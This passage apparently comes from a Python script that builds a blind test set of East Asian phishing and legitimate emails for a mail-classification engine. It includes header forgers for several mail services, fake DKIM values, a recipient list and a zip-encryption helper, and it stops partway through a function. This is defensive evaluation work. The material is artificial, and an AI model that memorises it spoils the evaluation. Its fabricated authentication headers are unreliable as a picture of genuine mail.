"""Blind evaluation set 38: East Asia 2024-2026 — consumers and company staff in Japan, South Korea,
Taiwan and Hong Kong, writing and receiving mail in Japanese, Korean, Traditional Chinese and English.

Attacks as they really reach that population: card-company and bank lures (Japanese card issuers, Korean
and Taiwanese banks, HSBC HK), e-commerce and delivery lures (Amazon JP, Rakuten, Coupang, Naver, Japan
Post, Yamato, Sagawa, CJ Logistics, Chunghwa Post, SF Express, Hongkong Post), the 2025 wave of
securities-account takeover lures against Japanese online brokers, tax and government lures (e-Tax / NTA,
Korean NTS Hometax, Taiwan e-invoice, HK IRD eTAX), ETC / eTag / HKeToll highway-toll lures, mobile
carrier lures, Microsoft 365 and Google Workspace credential lures at companies, CEO fraud and supplier
bank changes, malware in archives, disc images, HTML smuggling and shortcut files, QR codes, sextortion,
investment and marketplace scams. The 25 legitimate messages are the genuine mail the same people get
from the same brands (statements, delivery notices, brokerage login notices, receipts, newsletters with
tracking links, genuine shares and e-signature envelopes) and their colleagues' and partners' mail.

Each message is written in the language and charset its real sender would use (UTF-8, ISO-2022-JP,
Shift_JIS, EUC-KR / ks_c_5601-1987, Big5; base64, quoted-printable, 7bit, 8bit), with the Received
chain and Authentication-Results of the receiving service (Gmail / Google Workspace, Microsoft 365,
Outlook.com, Naver, Daum, HiNet, an on-premises Postfix).

Run:
    cd /work/main && .venv/bin/python samples/tools/build_blind38_samples.py
"""

from __future__ import annotations

import base64
import email.policy
import hashlib
import re
import struct
import sys
import zlib
from datetime import datetime, timedelta, timezone
from email.parser import BytesParser
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))

import files  # noqa: E402
from mime import Leaf, Multi, attachment, message, text  # noqa: E402

N = 38
ROOT = HERE.parent / "mail"
MANIFEST = HERE / f"blind{N}_manifest.txt"

# Maintainer's corrections after the first scan: filed where the engine's classification puts them
# (the names keep the writer's kind).
REFILED: dict[str, str] = {
    "b38-legit-ctbc-card-estatement": "clean",
    "b38-legit-docomo-bill": "clean",
    "b38-legit-einvoice-prize-notice": "clean",
    "b38-legit-etax-message-box": "clean",
    "b38-legit-kbcard-secure-statement": "clean",
    "b38-legit-sf-express-shipment": "clean",
    "b38-legit-sharepoint-share-jp": "bulk",
}

# ---------------------------------------------------------------------------
# deterministic tokens, dates, encoded words
# ---------------------------------------------------------------------------

HEX = "0123456789abcdef"
UHEX = "0123456789ABCDEF"
ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
LOWER = "abcdefghijklmnopqrstuvwxyz0123456789"
B64 = ALNUM + "+/"
URLSAFE = ALNUM + "-_"
DIGITS = "0123456789"


def tok(seed: str, n: int = 16, alphabet: str = HEX) -> str:
    """A deterministic pseudo-random string derived from ``seed``."""
    out = []
    i = 0
    while len(out) < n:
        for byte in hashlib.sha256(f"{seed}#{i}".encode()).digest():
            out.append(alphabet[byte % len(alphabet)])
        i += 1
    return "".join(out[:n])


def num(seed: str, lo: int, hi: int) -> int:
    return lo + int(hashlib.sha256(seed.encode()).hexdigest(), 16) % (hi - lo + 1)


def blob(seed: str, n: int) -> bytes:
    out = b""
    i = 0
    while len(out) < n:
        out += hashlib.sha256(f"{seed}@{i}".encode()).digest()
        i += 1
    return out[:n]


DOW = ["Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"]
MON = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]


def zone(hours: float) -> timezone:
    return timezone(timedelta(minutes=int(hours * 60)))


def T(y: int, mo: int, d: int, h: int, mi: int, s: int, tzh: float = 9) -> datetime:
    return datetime(y, mo, d, h, mi, s, tzinfo=zone(tzh))


def rfc(d: datetime, tzh: float | None = None, pad: bool = True, paren: str = "") -> str:
    if tzh is not None:
        d = d.astimezone(zone(tzh))
    minutes = int(d.utcoffset().total_seconds() // 60)
    sign = "+" if minutes >= 0 else "-"
    minutes = abs(minutes)
    day = f"{d.day:02d}" if pad else str(d.day)
    out = (f"{DOW[d.weekday()]}, {day} {MON[d.month - 1]} {d.year} {d.hour:02d}:{d.minute:02d}:{d.second:02d} "
           f"{sign}{minutes // 60:02d}{minutes % 60:02d}")
    return out + (f" ({paren})" if paren else "")


def _nth_sunday(year: int, month: int, n: int) -> datetime:
    d = datetime(year, month, 1, tzinfo=timezone.utc)
    while d.weekday() != 6:
        d += timedelta(days=1)
    return d + timedelta(days=7 * (n - 1))


def pacific(d: datetime) -> str:
    """Gmail stamps its hops in US Pacific time."""
    u = d.astimezone(timezone.utc)
    start = _nth_sunday(u.year, 3, 2) + timedelta(hours=10)
    end = _nth_sunday(u.year, 11, 1) + timedelta(hours=9)
    if start <= u < end:
        return rfc(u, -7, pad=False, paren="PDT")
    return rfc(u, -8, pad=False, paren="PST")


def utc(d: datetime) -> str:
    return rfc(d, 0, pad=False)


def epoch(d: datetime) -> int:
    return int(d.timestamp())


def _ew1(s: str, charset: str, mode: str) -> str:
    data = s.encode(charset)
    if mode == "B":
        return f"=?{charset_label(charset)}?B?{base64.b64encode(data).decode()}?="
    out = []
    for byte in data:
        ch = chr(byte)
        if byte == 0x20:
            out.append("_")
        elif ch.isascii() and (ch.isalnum() or ch in "!*+-/"):
            out.append(ch)
        else:
            out.append(f"={byte:02X}")
    return f"=?{charset_label(charset)}?Q?{''.join(out)}?="


_LABELS: dict[str, str] = {}


def charset_label(charset: str) -> str:
    return _LABELS.get(charset, charset)


def ew(s: str, charset: str = "UTF-8", mode: str = "B", label: str | None = None, first: int = 0) -> str:
    """RFC 2047 encode ``s`` as one or more encoded words, folded on their own lines."""
    if all(ord(c) < 128 for c in s):
        return s
    if label:
        _LABELS[charset] = label
    words: list[str] = []
    chunk = ""
    for ch in s:
        cand = chunk + ch
        limit = 75 - (first if not words else 0)
        if chunk and len(_ew1(cand, charset, mode)) > limit:
            words.append(_ew1(chunk, charset, mode))
            chunk = ch
        else:
            chunk = cand
    if chunk:
        words.append(_ew1(chunk, charset, mode))
    _LABELS.pop(charset, None)
    return "\n ".join(words)


def addr(name: str, email_addr: str, charset: str = "UTF-8", mode: str = "B", label: str | None = None) -> str:
    if not name:
        return email_addr
    if all(ord(c) < 128 for c in name):
        if any(c in name for c in ',.;:()<>@[]"'):
            return f'"{name}" <{email_addr}>'
        return f"{name} <{email_addr}>"
    return f"{ew(name, charset, mode, label)} <{email_addr}>"


def subj(s: str, charset: str = "UTF-8", mode: str = "B", label: str | None = None) -> str:
    return "Subject: " + ew(s, charset, mode, label, first=9)


def fold(value: str, width: int = 72, sep: str = "\n\t") -> str:
    """Fold a long base64-ish value into continuation lines."""
    return sep.join(value[i:i + width] for i in range(0, len(value), width))


def dkim(d: str, s: str, hdrs: str, when: datetime, seed: str, c: str = "relaxed/relaxed",
         i: str | None = None, a: str = "rsa-sha256", keylen: int = 256, x: int | None = None) -> str:
    bh = base64.b64encode(blob(seed + "bh", 32)).decode()
    b = base64.b64encode(blob(seed + "b", keylen)).decode()
    ident = f" i={i};" if i else ""
    exp = f" x={epoch(when) + x};" if x else ""
    parts = hdrs.split(":")
    rows, row = [], "h="
    for i, name in enumerate(parts):
        piece = name + (":" if i < len(parts) - 1 else ";")
        if len(row) + len(piece) > 70 and row != "h=":
            rows.append(row)
            row = " " + piece
        else:
            row += piece
    rows.append(row)
    hlines = "\n\t".join(rows)
    return (f"DKIM-Signature: v=1; a={a}; c={c}; d={d};\n\ts={s};{ident} t={epoch(when)};{exp}\n"
            f"\t{hlines}\n\tbh={bh};\n\tb={fold(b, 70)}")


def b8(seed: str) -> str:
    return tok(seed, 8, B64)


# ---------------------------------------------------------------------------
# the receiving side: Received chains and Authentication-Results
# ---------------------------------------------------------------------------


class Src:
    """The connecting server and what the receiver concluded about it."""

    def __init__(self, helo: str, ip: str, mailfrom: str, hfrom: str, spf: str = "pass",
                 dkim_sigs: list[tuple[str, str, str]] | None = None, dmarc: str | None = "pass",
                 policy: str = "NONE", rdns: str | None = None, tls: bool = True):
        self.helo = helo
        self.ip = ip
        self.mailfrom = mailfrom
        self.hfrom = hfrom  # header From domain
        self.spf = spf
        self.dkim = dkim_sigs or []  # (domain, selector, result)
        self.dmarc = dmarc
        self.policy = policy
        self.rdns = rdns if rdns is not None else helo
        self.tls = tls

    @property
    def mfdom(self) -> str:
        return self.mailfrom.split("@")[-1]


def _gmail_spf(src: Src) -> str:
    mf, ip = src.mailfrom, src.ip
    return {
        "pass": f"(google.com: domain of {mf} designates {ip} as permitted sender)",
        "softfail": f"(google.com: domain of transitioning {mf} does not designate {ip} as permitted sender)",
        "fail": f"(google.com: domain of {mf} does not designate {ip} as permitted sender)",
        "neutral": f"(google.com: {ip} is neither permitted nor denied by best guess record for domain of {mf})",
        "none": f"(google.com: domain of {mf} does not designate permitted sender hosts)",
    }[src.spf]


def gmail_in(rcpt: str, arr: datetime, src: Src, seed: str, internal_google: bool = False) -> tuple[str, str]:
    """Headers Gmail / Google Workspace writes on delivery (top block, no bottom block)."""
    a = arr
    sid = tok(seed + "sid", 12, DIGITS)
    v6 = f"2002:a05:{tok(seed + 'v1', 4)}:{tok(seed + 'v2', 4)}:b0:{tok(seed + 'v3', 3)}:{tok(seed + 'v4', 4)}:{tok(seed + 'v5', 4)}"
    ar = ["mx.google.com;"]
    for d, s, res in src.dkim:
        ar.append(f"       dkim={res} header.i=@{d} header.s={s} header.b={b8(seed + d + s)};")
    ar.append(f"       spf={src.spf} {_gmail_spf(src)} smtp.mailfrom={src.mailfrom}"
              + (";" if src.dmarc else ""))
    if src.dmarc:
        pol = src.policy
        dis = "NONE" if src.dmarc == "pass" or pol == "NONE" else ("QUARANTINE" if pol == "QUARANTINE" else "REJECT")
        ar.append(f"       dmarc={src.dmarc} (p={pol} sp={pol} dis={dis}) header.from={src.hfrom}")
    arbody = "\n".join(ar)
    arc_b = fold(base64.b64encode(blob(seed + "arcb", 128)).decode(), 60, "\n         ")
    arc_m = fold(base64.b64encode(blob(seed + "arcm", 128)).decode(), 60, "\n         ")
    bh = base64.b64encode(blob(seed + "arcbh", 32)).decode()
    pa = a.astimezone(timezone(timedelta(hours=-7 if "PDT" in pacific(a) else -8)))
    gid = (f"{tok(seed + 'g1', 13, HEX)}-{tok(seed + 'g2', 11, HEX)}si{tok(seed + 'g3', 7, DIGITS)}"
           f"{tok(seed + 'g4', 3, 'abcdefghijklmnopqrstuvwxyz')}.{num(seed + 'g5', 10, 999)}."
           f"{pa.year}.{pa.month:02d}.{pa.day:02d}.{pa.hour:02d}.{pa.minute:02d}.{pa.second:02d}")
    if internal_google:
        via = (f"Received: from {src.helo} ({src.rdns}. [{src.ip}])\n"
               f"        by mx.google.com with SMTPS id {gid}\n"
               f"        for <{rcpt}>\n        (Google Transport Security);\n        {pacific(a)}")
    else:
        tls = ("with ESMTPS id " + gid + f"\n        for <{rcpt}>\n"
               "        (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256);") if src.tls else (
            "with ESMTP id " + gid + f"\n        for <{rcpt}>;")
        rd = f"{src.rdns}. [{src.ip}]" if src.rdns != "unknown" else f"unknown [{src.ip}]"
        via = f"Received: from {src.helo} ({rd})\n        by mx.google.com {tls}\n        {pacific(a)}"
    top = f"""Delivered-To: {rcpt}
Received: by {v6} with SMTP id {tok(seed + 'csp', 2, LOWER)}csp{sid[:7]}{tok(seed + 'x', 3, LOWER)};
        {pacific(a + timedelta(seconds=1))}
X-Google-Smtp-Source: {tok(seed + 'gss', 64, B64)}
X-Received: by {v6.replace('a05', 'a17')} with SMTP id {tok(seed + 'xr', 12, LOWER)}.{sid[:5]}.{tok(seed + 'xr2', 13, DIGITS)};
        {pacific(a + timedelta(seconds=1))}
ARC-Seal: i=1; a=rsa-sha256; t={epoch(a)}; cv=none;
        d=google.com; s=arc-20240605;
        b={arc_b}
ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=google.com; s=arc-20240605;
        h=to:subject:message-id:date:from:mime-version:dkim-signature;
        bh={bh};
        fh={tok(seed + 'fh', 43, B64)}=;
        b={arc_m}
ARC-Authentication-Results: i=1; {arbody}
Return-Path: <{src.mailfrom}>
{via}
Received-SPF: {src.spf} {_gmail_spf(src)} client-ip={src.ip};
Authentication-Results: {arbody}"""
    return top, ""


M365_HOSTS = {
    "jp": ("TYCPR01MB", "jpnprd01", "OS3P286CA", "JPNP286", "OS1PEPF0000", "jpnprd01", "TYWPR01MB", "2603:1096"),
    "tw": ("TYZPR06MB", "apcprd06", "SI2P153CA", "APCP153", "SG1PEPF0000", "apcprd02", "KL1PR06MB", "2603:1096"),
    "hk": ("PSAPR06MB", "apcprd06", "SG2PR01CA", "apcprd01", "HK2PEPF0000", "apcprd03", "SEZPR06MB", "2603:1096"),
    "ol": ("PH7P223MB", "NAMP223", "SJ0PR03CA", "namprd03", "SJ1PEPF0000", "namprd03", "SA1P223MB", "2603:10b6"),
}


def _m365_host(region: str, kind: int, seed: str) -> str:
    h = M365_HOSTS[region]
    if kind == 0:
        return f"{h[0]}{num(seed + 'm0', 4000, 9999)}.{h[1]}.prod.outlook.com"
    if kind == 1:
        return f"{h[2]}{num(seed + 'm1', 1, 99):04d}.{h[3]}.PROD.OUTLOOK.COM"
    return f"{h[4]}{tok(seed + 'm2', 4, UHEX)}.{h[5]}.prod.outlook.com"


def m365_in(rcpt: str, arr: datetime, src: Src, seed: str, region: str = "jp", scl: int = 1,
            compauth: str = "pass reason=100", internal: bool = False, sender_host: str = "") -> tuple[str, str]:
    """Microsoft 365 / Outlook.com delivery headers: (top block, bottom block)."""
    h = M365_HOSTS[region]
    mbx = _m365_host(region, 0, seed)
    fe = _m365_host(region, 1, seed)
    eop = _m365_host(region, 2, seed)
    v6 = lambda s: f"{h[7]}:{tok(seed + s, 3)}:{tok(seed + s + 'b', 3)}::{tok(seed + s + 'c', 2)}"  # noqa: E731
    build = f"15.20.{num(seed + 'bld', 8200, 8900)}.{num(seed + 'bld2', 10, 40)}"
    a = arr
    if internal:
        shost = sender_host or mbx
        top = f"""Received: from {shost} ({v6('x1')}) by
 {mbx} ({v6('x0')}) with Microsoft SMTP Server
 (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {build}; {utc(a)}"""
        bottom = f"""X-MS-Exchange-Organization-AuthAs: Internal
X-MS-Exchange-Organization-AuthMechanism: 04
X-MS-Exchange-Organization-AuthSource: {shost}
X-MS-Exchange-Organization-Network-Message-Id: {tok(seed + 'nmi', 8)}-{tok(seed + 'nmi2', 4)}-{tok(seed + 'nmi3', 4)}-{tok(seed + 'nmi4', 4)}-{tok(seed + 'nmi5', 12)}
X-MS-Exchange-Organization-SCL: -1
X-MS-Exchange-Organization-RecordReviewCfmType: 0
X-MS-Exchange-Organization-MessageDirectionality: Originating"""
        return top, bottom
    spf_txt = {
        "pass": f"spf=pass (sender IP is {src.ip})\n smtp.mailfrom={src.mfdom}",
        "fail": f"spf=fail (sender IP is {src.ip})\n smtp.mailfrom={src.mfdom}",
        "softfail": f"spf=softfail (sender IP is {src.ip})\n smtp.mailfrom={src.mfdom}",
        "none": f"spf=none (sender IP is {src.ip})\n smtp.mailfrom={src.mfdom}",
        "neutral": f"spf=neutral (sender IP is {src.ip})\n smtp.mailfrom={src.mfdom}",
    }[src.spf]
    if src.dkim:
        d, _s, res = src.dkim[0]
        dk = {"pass": "dkim=pass (signature was verified)", "fail": "dkim=fail (body hash did not verify)",
              "none": "dkim=none (message not signed)"}[res] + f"\n header.d={d}"
    else:
        dk = "dkim=none (message not signed)\n header.d=none"
    dm = src.dmarc or "none"
    if dm == "pass":
        dmt = "dmarc=pass action=none"
    elif dm == "fail":
        act = {"NONE": "none", "QUARANTINE": "quarantine", "REJECT": "oreject"}[src.policy]
        dmt = f"dmarc=fail action={act}"
    elif dm == "bestguesspass":
        dmt = "dmarc=bestguesspass action=none"
    else:
        dmt = "dmarc=none action=none"
    spf_word = {"pass": "Pass", "fail": "Fail", "softfail": "SoftFail", "none": "None", "neutral": "Neutral"}[src.spf]
    spf_expl = {
        "pass": f"domain of {src.mfdom} designates {src.ip} as\n permitted sender",
        "fail": f"domain of {src.mfdom} does not\n designate {src.ip} as permitted sender",
        "softfail": f"domain of transitioning\n {src.mfdom} discourages use of {src.ip} as permitted sender",
        "none": f"{src.mfdom} does not designate\n permitted sender hosts",
        "neutral": f"{src.ip} is neither permitted nor denied by domain\n of {src.mfdom}",
    }[src.spf]
    top = f"""Received: from {mbx} ({v6('a')}) by
 {h[6]}{num(seed + 'mb2', 4000, 9999)}.{h[1]}.prod.outlook.com with HTTPS; {utc(a + timedelta(seconds=2))}
Received: from {fe} ({v6('b')}) by
 {mbx} ({v6('a')}) with Microsoft SMTP Server
 (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {build}; {utc(a + timedelta(seconds=1))}
Received: from {eop} ({v6('c')}) by {fe}
 ({v6('b')}) with Microsoft SMTP Server (version=TLS1_3,
 cipher=TLS_AES_256_GCM_SHA384) id {build} via Frontend Transport; {utc(a + timedelta(seconds=1))}
Authentication-Results: {spf_txt}; {dk};{dmt}
 header.from={src.hfrom};compauth={compauth}
Received-SPF: {spf_word} (protection.outlook.com: {spf_expl})
 receiver=protection.outlook.com; client-ip={src.ip}; helo={src.helo};
 pr=C
Received: from {src.helo} ({src.ip}) by
 {eop.split('.')[0]}.mail.protection.outlook.com ({10}.{num(seed + 'i1', 160, 167)}.{num(seed + 'i2', 1, 254)}.{num(seed + 'i3', 1, 254)}) with Microsoft SMTP
 Server (version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384) id {build}
 via Frontend Transport; {utc(a)}"""
    bottom = f"""X-MS-Exchange-Organization-ExpirationStartTime: {a.astimezone(timezone.utc).strftime('%d %b %Y %H:%M:%S.')}{num(seed + 'ms', 1000, 9999)} (UTC)
X-MS-Exchange-Organization-ExpirationStartTimeReason: OriginalSubmit
X-MS-Exchange-Organization-ExpirationInterval: 1:00:00:00.0000000
X-MS-Exchange-Organization-Network-Message-Id: {tok(seed + 'nmi', 8)}-{tok(seed + 'nmi2', 4)}-{tok(seed + 'nmi3', 4)}-{tok(seed + 'nmi4', 4)}-{tok(seed + 'nmi5', 12)}
X-EOPAttributedMessage: 0
X-EOPTenantAttributedMessage: {tok(seed + 'ten', 8)}-{tok(seed + 'ten2', 4)}-{tok(seed + 'ten3', 4)}-{tok(seed + 'ten4', 4)}-{tok(seed + 'ten5', 12)}:0
X-MS-Exchange-Organization-MessageDirectionality: Incoming
X-MS-PublicTrafficType: Email
X-MS-Exchange-Organization-AuthSource: {eop}
X-MS-Exchange-Organization-AuthAs: Anonymous
X-MS-Exchange-Organization-SCL: {scl}
X-Forefront-Antispam-Report: CIP:{src.ip};CTRY:{{CTRY}};LANG:{{LANG}};SCL:{scl};SRV:;IPV:NLI;SFV:{'NSPM' if scl < 5 else 'SPM'};H:{src.helo};PTR:{src.rdns};CAT:{'NONE' if scl < 5 else 'SPM'};SFS:;DIR:INB;
X-MS-Exchange-CrossTenant-OriginalArrivalTime: {a.astimezone(timezone.utc).strftime('%d %b %Y %H:%M:%S.')}{num(seed + 'ms2', 1000, 9999)}
 (UTC)
X-MS-Exchange-Transport-EndToEndLatency: 00:00:0{num(seed + 'lat', 1, 9)}.{num(seed + 'lat2', 1000000, 9999999)}"""
    return top, bottom


def postfix_in(rcpt: str, arr: datetime, src: Src, seed: str, host: str = "mx01.aoba-logi.co.jp") -> tuple[str, str]:
    """An on-premises Postfix with OpenDKIM / OpenDMARC / policyd-spf (times in JST)."""
    qid = tok(seed + "qid", 11, UHEX)
    qid2 = tok(seed + "qid2", 11, UHEX)
    lines = [f"Return-Path: <{src.mailfrom}>",
             f"Delivered-To: {rcpt}",
             f"Received: from {host} (localhost [127.0.0.1])\n\tby mbox01.aoba-logi.co.jp (Postfix) with ESMTP id {qid2}\n"
             f"\tfor <{rcpt}>; {rfc(arr + timedelta(seconds=2), 9, pad=False)}"]
    if src.dmarc:
        lines.append(f"Authentication-Results: {host}; dmarc={src.dmarc} (p={src.policy.lower()} dis=none) header.from={src.hfrom}")
    lines.append(f"Authentication-Results: {host}; spf={src.spf} smtp.mailfrom={src.mailfrom}")
    for d, s, res in src.dkim:
        lines.append(f"Authentication-Results: {host};\n\tdkim={res} (2048-bit key; unprotected) header.d={d} header.i=@{d}"
                     f" header.a=rsa-sha256 header.s={s} header.b={b8(seed + d + s)}")
    rd = f"{src.rdns} [{src.ip}]" if src.rdns != "unknown" else f"unknown [{src.ip}]"
    via = "ESMTPS" if src.tls else "ESMTP"
    lines.append(f"Received: from {src.helo} ({rd})\n\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits))\n"
                 f"\t(No client certificate requested)\n\tby {host} (Postfix) with {via} id {qid}\n"
                 f"\tfor <{rcpt}>; {rfc(arr, 9, pad=False)}" if src.tls else
                 f"Received: from {src.helo} ({rd})\n\tby {host} (Postfix) with ESMTP id {qid}\n"
                 f"\tfor <{rcpt}>; {rfc(arr, 9, pad=False)}")
    return "\n".join(lines), ""


def naver_in(rcpt: str, arr: datetime, src: Src, seed: str) -> tuple[str, str]:
    dk = "; ".join(f"dkim={res} header.i=@{d}" for d, _s, res in src.dkim) or "dkim=none"
    dm = f"; dmarc={src.dmarc} header.from={src.hfrom}" if src.dmarc else ""
    top = f"""Received: from {src.helo} ({src.ip})
  by mx{num(seed + 'nx', 1, 6)}.mail.naver.com with ESMTP id {tok(seed + 'nid', 22, URLSAFE)}
  for <{rcpt}>;
  {rfc(arr, 9)}
X-Naver-Sender-IP: {src.ip}
Authentication-Results: mx.naver.com; spf={src.spf} smtp.mailfrom={src.mailfrom}; {dk}{dm}
Return-Path: <{src.mailfrom}>"""
    return top, ""


def daum_in(rcpt: str, arr: datetime, src: Src, seed: str) -> tuple[str, str]:
    dk = "; ".join(f"dkim={res} header.d={d} header.s={s}" for d, s, res in src.dkim) or "dkim=none"
    dm = f"; dmarc={src.dmarc} (p={src.policy.lower()}) header.from={src.hfrom}" if src.dmarc else ""
    top = f"""Return-Path: <{src.mailfrom}>
X-Original-To: {rcpt}
Received: from {src.helo} ([{src.ip}])
	by mx{num(seed + 'dx', 1, 9)}.hanmail.net (Kakao Mail) with ESMTPS id {tok(seed + 'did', 24, LOWER)}
	for <{rcpt}>; {rfc(arr, 9)}
Authentication-Results: mx.hanmail.net; spf={src.spf} smtp.mailfrom={src.mailfrom}; {dk}{dm}"""
    return top, ""


def hinet_in(rcpt: str, arr: datetime, src: Src, seed: str) -> tuple[str, str]:
    dk = "; ".join(f"dkim={res} header.d={d} header.s={s}" for d, s, res in src.dkim) or "dkim=none"
    dm = f"; dmarc={src.dmarc} header.from={src.hfrom}" if src.dmarc else ""
    top = f"""Return-Path: <{src.mailfrom}>
Delivered-To: {rcpt}
Received: from ms35.hinet.net (ms35.hinet.net [168.95.4.135])
	by mbox35.hinet.net (Postfix) with ESMTP id {tok(seed + 'h1', 10, UHEX)}
	for <{rcpt}>; {rfc(arr + timedelta(seconds=1), 8, pad=False)}
Authentication-Results: ms35.hinet.net; spf={src.spf} smtp.mailfrom={src.mailfrom}; {dk}{dm}
Received: from {src.helo} ({src.rdns} [{src.ip}])
	by msr{num(seed + 'hr', 1, 30)}.hinet.net (8.15.2/8.15.2) with ESMTPS id {tok(seed + 'h2', 14, ALNUM)}
	for <{rcpt}>; {rfc(arr, 8, pad=False)}"""
    return top, ""


# recipients: address -> (receiver, display name)
RX = {
    # Japan, consumers on Gmail
    "yuki.tanaka1987@gmail.com": ("gmail", "田中 由紀"),
    "misaki.kondo0722@gmail.com": ("gmail", "近藤 美咲"),
    "kenji.watanabe.fx@gmail.com": ("gmail", "渡辺 健二"),
    # Japan, 北村精機株式会社 on Microsoft 365
    "m-sasaki@kitamura-seiki.co.jp": ("m365jp", "佐々木 美穂"),
    "k-yamamoto@kitamura-seiki.co.jp": ("m365jp", "山本 健太"),
    "h-ogawa@kitamura-seiki.co.jp": ("m365jp", "小川 浩"),
    # Japan, 株式会社青葉ロジスティクス on its own Postfix
    "t-ishikawa@aoba-logi.co.jp": ("postfix", "石川 拓也"),
    "keiri@aoba-logi.co.jp": ("postfix", "経理部"),
    "a-mori@aoba-logi.co.jp": ("postfix", "森 綾香"),
    # Korea, consumers
    "jiwoo.park88@naver.com": ("naver", "박지우"),
    "mh.choi@naver.com": ("naver", "최민혁"),
    "seoyeon_lee@hanmail.net": ("daum", "이서연"),
    # Korea, 한빛정밀 on Google Workspace
    "js.kang@hanbit-precision.co.kr": ("gmail", "강지수"),
    "finance@hanbit-precision.co.kr": ("gmail", "재무팀"),
    "dh.yoon@hanbit-precision.co.kr": ("gmail", "윤동현"),
    # Taiwan, consumers
    "chen.yating0913@gmail.com": ("gmail", "陳雅婷"),
    "lin.chihwei.tw@gmail.com": ("gmail", "林志偉"),
    "wu.chienhung@ms35.hinet.net": ("hinet", "吳建宏"),
    # Taiwan, 信遠科技 on Microsoft 365
    "amy.huang@hsinyuan-tech.com.tw": ("m365tw", "黃怡君"),
    "kevin.tsai@hsinyuan-tech.com.tw": ("m365tw", "蔡凱文"),
    "acct@hsinyuan-tech.com.tw": ("m365tw", "會計部"),
    # Hong Kong, consumers
    "ckwong_88@outlook.com": ("m365ol", "Wong Chi Keung"),
    "tammy.lau.hk@gmail.com": ("gmail", "Tammy Lau"),
    "kelvin.cheung.hk@gmail.com": ("gmail", "Kelvin Cheung"),
    # Hong Kong, Pacific Harbour Trading Ltd on Microsoft 365
    "ivy.chan@pacificharbour.com.hk": ("m365hk", "Ivy Chan"),
    "accounts@pacificharbour.com.hk": ("m365hk", "Accounts"),
    "eric.ho@pacificharbour.com.hk": ("m365hk", "Eric Ho"),
    "raymond.lee@pacificharbour.com.hk": ("m365hk", "Raymond Lee"),
}


def deliver(rcpt: str, arr: datetime, src: Src | None, seed: str, sender_headers: str, body,
            scl: int = 1, compauth: str | None = None, ctry: str = "JP", lang: str = "ja",
            internal: bool = False, internal_google: bool = False) -> bytes:
    """Wrap the sender's headers and body in the receiving service's headers."""
    kind = RX[rcpt][0]
    if kind == "gmail":
        top, bottom = gmail_in(rcpt, arr, src, seed, internal_google=internal_google)
    elif kind.startswith("m365"):
        region = {"m365jp": "jp", "m365tw": "tw", "m365hk": "hk", "m365ol": "ol"}[kind]
        if compauth is None:
            if src is None or src.dmarc == "pass":
                compauth = "pass reason=100"
            elif src.dmarc == "fail":
                compauth = "fail reason=000"
            else:
                compauth = "softpass reason=201" if src.spf == "pass" else "none reason=405"
        hop = re.search(r"^Received: from (\S+)", sender_headers, re.M)
        top, bottom = m365_in(rcpt, arr, src, seed, region, scl, compauth, internal=internal,
                              sender_host=hop.group(1) if hop else "")
        bottom = bottom.replace("{CTRY}", ctry).replace("{LANG}", lang)
    elif kind == "postfix":
        top, bottom = postfix_in(rcpt, arr, src, seed)
    elif kind == "naver":
        top, bottom = naver_in(rcpt, arr, src, seed)
    elif kind == "daum":
        top, bottom = daum_in(rcpt, arr, src, seed)
    elif kind == "hinet":
        top, bottom = hinet_in(rcpt, arr, src, seed)
    else:
        raise ValueError(kind)
    block = top.strip("\n") + "\n" + sender_headers.strip("\n")
    if bottom:
        block += "\n" + bottom.strip("\n")
    return message(block, body)


# ---------------------------------------------------------------------------
# body helpers
# ---------------------------------------------------------------------------


def alt(plain: str, html: str, boundary: str, charset: str = "utf-8", penc: str = "base64",
        henc: str = "base64") -> Multi:
    return Multi("alternative", boundary, [text(plain, "plain", penc, charset), text(html, "html", henc, charset)])


def html_only(html: str, charset: str = "utf-8", enc: str = "base64") -> Leaf:
    return text(html, "html", enc, charset)


def mixed(boundary: str, *parts) -> Multi:
    return Multi("mixed", boundary, list(parts))


def att(content_type: str, name: str, data: bytes, charset: str = "UTF-8", mode: str = "B",
        body_charset: str = "") -> Leaf:
    """An attachment whose non-ASCII file name is written as RFC 2047 words, as Outlook and Gmail do."""
    cs = f'; charset="{body_charset}"' if body_charset else ""
    if all(ord(c) < 128 for c in name):
        return Leaf(content_type, data, "base64", f'{cs}; name="{name}"', f'attachment; filename="{name}"')
    encoded = ew(name, charset, mode).replace("\n ", "")
    return Leaf(content_type, data, "base64", f'{cs}; name="{encoded}"', f'attachment; filename="{encoded}"')


def zip_crypto(name: str, data: bytes, password: str, seed: str) -> bytes:
    """A one-member zip encrypted with traditional PKWARE encryption (the 'PPAP' zip Japanese firms send)."""
    table = []
    for i in range(256):
        c = i
        for _ in range(8):
            c = (c >> 1) ^ 0xEDB88320 if c & 1 else c >> 1
        table.append(c)
    keys = [0x12345678, 0x23456789, 0x34567890]

    def crc(c: int, b: int) -> int:
        return table[(c ^ b) & 0xFF] ^ (c >> 8)

    def update(b: int) -> None:
        keys[0] = crc(keys[0], b)
        keys[1] = (keys[1] + (keys[0] & 0xFF)) & 0xFFFFFFFF
        keys[1] = (keys[1] * 134775813 + 1) & 0xFFFFFFFF
        keys[2] = crc(keys[2], keys[1] >> 24)

    def stream() -> int:
        t = (keys[2] | 2) & 0xFFFF
        return ((t * (t ^ 1)) >> 8) & 0xFF

    for ch in password.encode():
        update(ch)
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    cdata = comp.compress(data) + comp.flush()
    crc32 = zlib.crc32(data) & 0xFFFFFFFF
    plain = blob(seed, 11) + bytes([crc32 >> 24])
    enc = bytearray()
    for p in plain + cdata:
        enc.append(p ^ stream())
        update(p)
    y, mo, d, hh, mi, ss = files.FIXED_DATE
    dtime = (hh << 11) | (mi << 5) | (ss // 2)
    ddate = ((y - 1980) << 9) | (mo << 5) | d
    fname = name.encode("utf-8")
    flags = 0x0001 | 0x0800
